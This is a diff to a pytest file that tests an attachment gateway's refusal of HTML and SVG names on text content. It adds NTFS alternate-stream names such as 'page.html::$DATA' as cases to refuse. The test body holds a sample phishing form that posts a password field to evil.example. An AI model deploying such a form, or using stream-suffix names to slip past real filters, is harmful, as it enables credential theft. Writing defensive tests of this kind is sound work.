@@ -210,7 +210,9 @@ def test_a_name_the_recipients_system_runs_is_refused_whatever_the_bytes(on: Gat
     assert "runs as a program" in str(exc)
 
 
-@pytest.mark.parametrize("name", ["invoice.html", "statement.HTM", "logo.svg", "page.xhtml"])
+@pytest.mark.parametrize(
+    "name", ["invoice.html", "statement.HTM", "logo.svg", "page.xhtml", "page.html::$DATA", "x.svg:y"]
+)
 def test_a_page_name_on_text_is_refused(on: Gateway, name: str) -> None:
     # A browser renders `invoice.html` (a login form posting anywhere); the approver read "text/plain".
     page = b"<html><form action='https://evil.example'><input name=pw></form></html>"
